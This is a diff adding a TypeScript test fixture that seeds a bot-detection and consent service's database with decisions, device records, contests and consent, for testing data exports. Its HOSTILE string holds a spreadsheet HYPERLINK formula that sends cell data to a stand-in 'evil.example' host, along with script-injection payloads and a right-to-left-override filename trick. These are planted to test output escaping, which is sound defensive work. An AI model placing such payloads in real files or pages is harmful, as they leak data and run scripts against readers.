@@ -1,0 +1,232 @@
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { makeDirectory } from '../../../src/app/directory.ts';
+import { readSnapshot } from '../../../src/app/snapshot-store.ts';
+import { loadConfig } from '../../../src/config.ts';
+import { principalRef } from '../../../src/consent/principal.ts';
+import type { ConsentTenant } from '../../../src/consent/tenant.ts';
+import type { Database } from '../../../src/db/db.ts';
+import { RULES } from '../../../src/ingest/classify/policy.ts';
+import type { Verdict } from '../../../src/ingest/verdict.ts';
+import { fileContest } from '../../../src/rights/contests/contest.ts';
+import type { ContestWords } from '../../../src/rights/contests/contest-text.ts';
+import { contestWordsOf } from '../../../src/rights/contests/contest-text-of.ts';
+import { insertContest } from '../../../src/rights/contests/store.ts';
+import { linkRequest } from '../../../src/rights/link-store.ts';
+import { openStore } from '../../../src/tenants/installation-files.ts';
+import { runGpd, tempDir } from '../../support/command.ts';
+import { DAY, makeConsentState, makeVerdict, NOW } from '../../support/make.ts';
+import { initGpd, KID } from '../../support/server.ts';
+
+/** An installation with somebody in every table that an export reads. */
+
+const ALPHABET = '0123456789ABCDEFGHJKMNPQRSTVWXYZ';
+
+/** Ordered as its number is. */
+export function requestId(n: number): string {
+  let text = '';
+  for (let rest = n; text.length < 12; rest = Math.floor(rest / 32)) text = ALPHABET[rest % 32] + text;
+  return `req_01KAG000000000${text}`;
+}
+
+/** Everything that a spreadsheet, a browser or a reader could fall for. */
+export const HOSTILE =
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")\r\n<script>alert(1)</script><img src=x onerror=alert(2)>\n' +
+  '"quoted", comma; \u202Egpj.exe\u202C </style></dd>\u0000 &amp; נכון';
+
+const DURABLE = 'durable-of-mallory';
+export const VISITOR = '-AbCdEfGhIjKlMnOpQrStU';
+export const PRINCIPAL = 'customer-4711';
+
+const fired = (...ids: string[]): Verdict['rules'] =>
+  RULES.filter(({ id }) => ids.includes(id)).map(({ id, weight, kind }) => ({ id, weight, kind }));
+
+/** The decisions take turns, so that each class, override and defence is among any five of them. */
+function verdictOf(n: number, durable: string | null): Verdict {
+  const parts: Partial<Verdict>[] = [
+    { class: 'human', suspectScore: 0.02, rules: fired('W2'), defenses: ['firefox-rfp'] },
+    { class: 'undeclared_automation', suspectScore: 0.92, rules: fired('A1', 'W2'), confidence: 0.99 },
+    { class: 'unknown', suspectScore: 0.35, rules: fired('M1', 'M2'), needsAttestation: true },
+    { class: 'declared_agent', declaredAgentId: 'https://agent.example', suspectScore: 0 },
+    { class: 'human', overridden: true, defenses: ['brave'] },
+  ];
+  return makeVerdict({
+    requestId: requestId(n),
+    decidedAt: NOW + n * 1000,
+    durable,
+    epoch: durable === null ? null : 680,
+    consentState: makeConsentState(),
+    policyVersion: '2026-11-20.6',
+    ...parts[n % parts.length],
+  });
+}
+
+export async function insertDecisions(
+  database: Database,
+  durable: string,
+  range: { readonly from: number; readonly count: number },
+): Promise<void> {
+  const BATCH = 400;
+  for (let from = range.from; from < range.from + range.count; from += BATCH) {
+    const count = Math.min(BATCH, range.from + range.count - from);
+    const rows = Array.from({ length: count }, (_, i) => {
+      const verdict = verdictOf(from + i, durable);
+      const { requestId: id, decidedAt } = verdict;
+      return {
+        kid: KID,
+        request_id: id,
+        decided_at: decidedAt,
+        class: verdict.class,
+        durable,
+        verdict: JSON.stringify(verdict),
+        salt: 'salt',
+        commitment: 'commitment',
+      };
+    });
+    await database.transaction((tx) => tx.batchInsert('decisions', rows, 100).then(() => {}));
+  }
+}
+
+async function insertDevice(database: Database): Promise<void> {
+  await database.transaction(async (tx) => {
+    const common = { kid: KID, durable: DURABLE };
+    const times = { first_at: NOW, last_at: NOW + 5000, seen: 5, epoch: 680 };
+    await tx('sightings').insert({ ...common, ...times });
+    await tx('visitor_index').insert({
+      ...common,
+      visitor_id: VISITOR,
+      epoch: 680,
+      ends_at: 681 * 30 * 86_400_000,
+    });
+    await tx('network_days').insert({ ...common, day: DAY, networks: 2 });
+    await tx('overrides').insert({ ...common, created_at: NOW + 9000, request_id: requestId(1) });
+    const summary = { devices: 80, signals: [{ name: 'canvas', bits: 6.3 }] };
+    await tx('signal_summaries').insert({
+      kid: KID,
+      request_id: requestId(1),
+      expires_at: NOW * 2,
+      summary: JSON.stringify(summary),
+    });
+  });
+}
+
+async function insertContests(database: Database, words: ContestWords): Promise<void> {
+  const filing = (n: number, statement: string | null) => ({
+    kid: KID,
+    contestId: `con_01KAG0000000000000000000A${n}`,
+    requestId: requestId(n),
+    durable: DURABLE,
+    class: 'undeclared_automation',
+    filedBy: 'filed-by-reference',
+    statement,
+  });
+  const resolved = {
+    ...fileContest(filing(1, HOSTILE), NOW),
+    status: 'resolved' as const,
+    outcome: 'overturned' as const,
+    reason: `A screen reader drove the browser. ${HOSTILE}`,
+    resolvedAt: NOW + 9000,
+    resolvedBy: { role: 'reviewer' as const, ref: 'reviewer-reference' },
+    resolvedLabel: 'Rita Resolver',
+    version: 2,
+  };
+  const by = { by: 'first-reference', label: 'Rita First', at: NOW + 1 };
+  const proposal = { outcome: 'upheld' as const, reason: 'two of two', ...by };
+  const open = { ...fileContest(filing(2, null), NOW), question: 'Which browser was it?', proposal };
+  await database.transaction(async (tx) => {
+    await insertContest(tx, words, resolved);
+    await insertContest(tx, words, open);
+  });
+}
+
+export interface Held {
+  readonly dataDir: string;
+  readonly env: Readonly<Record<string, string>>;
+  cli(...args: string[]): ReturnType<typeof runGpd>;
+}
+
+/** @param work on the open database, before the first command runs */
+export async function withDatabase<T>(dataDir: string, work: (database: Database) => Promise<T>): Promise<T> {
+  const config = loadConfig({ environment: { GPD_DATA_DIR: dataDir }, flags: {} });
+  const store = await openStore(config);
+  try {
+    return await work(store.database);
+  } finally {
+    await store.database.close();
+  }
+}
+
+async function tenantIn(dataDir: string): Promise<ConsentTenant> {
+  const config = loadConfig({ environment: { GPD_DATA_DIR: dataDir }, flags: {} });
+  const store = await openStore(config);
+  const directory = makeDirectory(Date.now);
+  directory.apply(await readSnapshot(store.database, -1), store.masterKey);
+  await store.database.close();
+  const tenant = directory.consentTenant(KID);
+  if (!tenant) throw new Error('the tenant is not there');
+  return tenant;
+}
+
+/** Mallory's device with five decisions and two contests; a customer with a link to one of them, and consent. */
+export async function holdSomebody(): Promise<Held> {
+  const { dataDir } = await initGpd([
+    { kid: KID, origins: ['https://shop.example'] },
+    { kid: 'other', origins: [] },
+  ]);
+  const env = { GPD_DATA_DIR: dataDir };
+  const tenant = await tenantIn(dataDir);
+  const principal = principalRef(tenant.principalKey, PRINCIPAL);
+  await withDatabase(dataDir, async (database) => {
+    await insertDecisions(database, DURABLE, { from: 0, count: 5 });
+    await insertDecisions(database, 'somebody-else', { from: 100, count: 3 });
+    await insertDevice(database);
+    await insertContests(
+      database,
+      contestWordsOf(() => tenant),
+    );
+    const link = { kid: KID, requestId: requestId(101), principal, linkedAt: NOW };
+    await database.transaction((tx) => linkRequest(tx, link));
+  });
+  const cli = (...args: string[]) => runGpd(args, { env });
+  for (const action of ['grant', 'withdraw']) {
+    const ran = await cli('consent', action, KID, PRINCIPAL, 'device-identification');
+    if (ran.code !== 0) throw new Error(ran.stderr);
+  }
+  return { dataDir, env, cli };
+}
+
+/** Unpacked by Info-ZIP and not by what packed it. */
+export function unpack(archive: string): string {
+  const directory = tempDir('unpacked');
+  mkdirSync(directory, { recursive: true });
+  run('unzip', ['-q', archive, '-d', directory]);
+  return directory;
+}
+
+/** @throws when it does not end with 0 */
+export function run(program: string, args: readonly string[]): string {
+  const { status, stdout, stderr, error } = spawnSync(program, args, { encoding: 'utf8' });
+  if (status !== 0) throw new Error(`${program} ended with ${status}: ${stderr}${error?.message ?? ''}`);
+  return stdout;
+}
+
+export function missingTool(program: string, flag: string): string | null {
+  const there = spawnSync(program, [flag]).error === undefined;
+  return there ? null : `${program} is not installed (apt-get install ${program})`;
+}
+
+/** A recipient as openssl makes one. */
+export function makeRecipient(...options: string[]): { readonly certificate: string; readonly key: string } {
+  const directory = tempDir('recipient');
+  const [certificate, key] = [join(directory, 'cert.pem'), join(directory, 'key.pem')];
+  const kind = options.length > 0 ? options : ['-newkey', 'rsa:2048'];
+  const names = ['-subj', '/CN=Dr. Ada Dpo/O=Ministry "of" Data', '-days', '30'];
+  run('openssl', ['req', '-x509', '-nodes', ...kind, ...names, '-keyout', key, '-out', certificate]);
+  return { certificate, key };
+}
+
+export function write(path: string, content: string | Uint8Array): string {
+  writeFileSync(path, content);
+  return path;
+}
